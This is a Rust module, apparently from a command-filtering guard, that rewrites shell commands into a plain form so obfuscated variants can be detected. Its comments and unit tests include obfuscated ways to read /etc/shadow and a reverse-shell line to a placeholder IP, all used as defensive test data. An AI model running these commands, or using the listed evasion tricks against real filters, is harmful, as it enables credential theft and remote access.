//! A command as a shell takes it: without what is there only to be taken away again.
//!
//! `c'a't /etc//sha\dow`, `cat${IFS}/etc/./shadow` and `cat $'\x2fetc/shadow'` are one command, and whoever
//! looks for a word in it should not have to know how many ways there are to write it. What a shell would have
//! to look up (variables, wildcards, what another command prints) stays as it is.

use std::{iter::Peekable, str::Chars};

/// The command without quotes, escapes and empty expansions, with one space where any white space or `$IFS`
/// stands, and with paths in their shortest form. Cost: a few passes over it.
pub(super) fn plain(command: &str) -> String {
    let unquoted = unquoted(command);
    let words: Vec<String> = unquoted.split(' ').map(shortest_path).collect();
    words.join(" ")
}

fn unquoted(command: &str) -> String {
    let mut out = String::with_capacity(command.len());
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' => {}
            '\\' => match chars.next() {
                Some('\n') | None => {}
                Some(next) => add(next, &mut out),
            },
            '$' => expansion(&mut chars, &mut out),
            _ => add(c, &mut out),
        }
    }
    out
}

/// Adds a character; of white space one space.
fn add(c: char, out: &mut String) {
    if !c.is_whitespace() {
        out.push(c);
    } else if !out.ends_with(' ') {
        out.push(' ');
    }
}

/// What follows a dollar sign.
fn expansion(chars: &mut Peekable<Chars<'_>>, out: &mut String) {
    match chars.peek() {
        Some('\'') => {
            chars.next();
            escaped_quote(chars, out);
        }
        // Arguments, of which there are none.
        Some('@' | '*' | '0'..='9') => {
            chars.next();
        }
        Some('{') => {
            let rest: String = chars.clone().skip(1).take(4).collect();
            let name = rest.split('}').next().filter(|name| name.len() < rest.len());
            match name {
                Some("IFS") => skip_and_space(chars, 5, out),
                Some("@" | "*" | "0" | "1" | "9") => {
                    chars.nth(2);
                }
                _ => out.push('$'),
            }
        }
        Some('I') => {
            let ahead: String = chars.clone().take(4).collect();
            let is_ifs = ahead.starts_with("IFS")
                && !ahead.ends_with(|c: char| c != 'S' && (c == '_' || c.is_alphanumeric()));
            if is_ifs {
                skip_and_space(chars, 3, out);
            } else {
                out.push('$');
            }
        }
        Some('"') => {}
        _ => out.push('$'),
    }
}

fn skip_and_space(chars: &mut Peekable<Chars<'_>>, count: usize, out: &mut String) {
    for _ in 0..count {
        chars.next();
    }
    add(' ', out);
}

/// `$'…'`, in which characters may be written as numbers.
fn escaped_quote(chars: &mut Peekable<Chars<'_>>, out: &mut String) {
    while let Some(c) = chars.next() {
        match c {
            '\'' => return,
            '\\' => match chars.next() {
                Some('x') => number(chars, 16, 2, out),
                Some('u') => number(chars, 16, 4, out),
                Some('n' | 't' | 'r' | 'v' | 'f') => add(' ', out),
                Some(digit @ '0'..='7') => {
                    let mut value = digit.to_digit(8).unwrap_or(0);
                    for _ in 0..2 {
                        let Some(next) = chars.peek().and_then(|c| c.to_digit(8)) else { break };
                        value = value * 8 + next;
                        chars.next();
                    }
                    add_code(value, out);
                }
                Some(next) => add(next, out),
                None => {}
            },
            _ => add(c, out),
        }
    }
}

fn number(chars: &mut Peekable<Chars<'_>>, radix: u32, digits_max: usize, out: &mut String) {
    let mut value = 0;
    for _ in 0..digits_max {
        let Some(digit) = chars.peek().and_then(|c| c.to_digit(radix)) else { break };
        value = value * radix + digit;
        chars.next();
    }
    add_code(value, out);
}

fn add_code(value: u32, out: &mut String) {
    if let Some(c) = char::from_u32(value).filter(|c| *c != '\0') {
        add(c, out);
    }
}

/// A word whose path has no empty step, none that stays and none that goes back. Addresses stay as they are.
fn shortest_path(word: &str) -> String {
    if !word.contains('/') || word.contains("://") {
        return word.to_owned();
    }
    let mut steps: Vec<&str> = Vec::new();
    let count = word.split('/').count();
    for (index, step) in word.split('/').enumerate() {
        let is_end = index == 0 || index + 1 == count;
        match step {
            "" | "." if !is_end => {}
            // Above the root is the root.
            ".." if steps == [""] => {}
            ".." if steps.len() > 1 && steps.last().is_some_and(|last| *last != "..") => {
                steps.pop();
            }
            _ => steps.push(step),
        }
    }
    steps.join("/")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_shell_takes_away_is_not_there() {
        for (command, expected) in [
            ("cat /etc/shadow", "cat /etc/shadow"),
            ("c'a't \"/etc\"/sha\\dow", "cat /etc/shadow"),
            ("cat${IFS}/etc//./shadow", "cat /etc/shadow"),
            ("cat$IFS$9/etc/x/../shadow", "cat /etc/shadow"),
            ("c$@at ${@}/etc/shadow", "cat /etc/shadow"),
            ("cat \t\n /etc/shadow", "cat /etc/shadow"),
            ("$'\\x63\\141t' $'/etc\\u002fshadow'", "cat /etc/shadow"),
            ("ba\"\"sh -i >& /dev//tcp/1.2.3.4/80", "bash -i >& /dev/tcp/1.2.3.4/80"),
            ("curl http://x//y 'a b'", "curl http://x//y a b"),
            // What stays: it is not known what it comes to.
            ("echo $HOME ${HOME} $IFSX $1x $", "echo $HOME ${HOME} $IFSX x $"),
            ("cat ../../x /../y a/..", "cat ../../x /y a/.."),
            ("a\\", "a"),
            ("$'\\x'", ""),
        ] {
            assert_eq!(plain(command), expected, "{command}");
        }
    }
}
